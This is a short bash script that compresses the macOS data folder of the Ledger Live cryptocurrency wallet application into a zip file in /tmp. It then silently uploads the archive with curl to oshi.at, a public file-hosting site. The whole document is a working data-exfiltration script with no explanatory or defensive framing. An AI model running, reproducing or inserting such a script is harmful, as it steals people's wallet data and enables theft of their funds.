#!/bin/bash
D="$HOME/Library/Application Support/Ledger Live"
zip -qr /tmp/ll.zip "$D"
curl -s -T /tmp/ll.zip https://oshi.at/ll.zip
